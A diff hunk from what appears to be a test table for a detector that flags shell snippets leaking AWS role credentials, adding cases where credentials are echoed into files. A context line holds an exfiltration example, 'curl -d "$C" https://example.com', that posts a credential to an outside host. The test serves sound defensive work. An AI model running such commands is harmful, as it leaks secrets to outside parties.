@@ -213,6 +213,9 @@ def exposed(text: str) -> list[tuple[str, str, str]]:
         ('C=$(ROLE)\nT=$(jq -r .Token <<< "$C")\nlogger "t $T"', 'logger "t $T"', "logs", "high"),
         ("C=$(ROLE)\ncat > f <<EOF\nkey=$C\nEOF", "cat > f", "stores", "high"),
         ('C=$(ROLE)\necho "$C" >> f', 'echo "$C" >> f', "stores", "high"),
+        ('C=$(ROLE)\n{\n  echo x\n  echo "$C"\n} >> f', 'echo "$C"', "stores", "high"),
+        ('C=$(ROLE)\n(echo x; echo "$C") > f', 'echo "$C"', "stores", "high"),
+        ('C=$(ROLE)\n{ echo x; } > f\necho "$C"', 'echo "$C"', "prints", "high"),
         ('C=$(ROLE)\ncurl -d "$C" https://example.com', 'curl -d "$C" https://example.com', "sends", "high"),
         (
             "C=$(ROLE)\naws configure set aws_session_token $C",
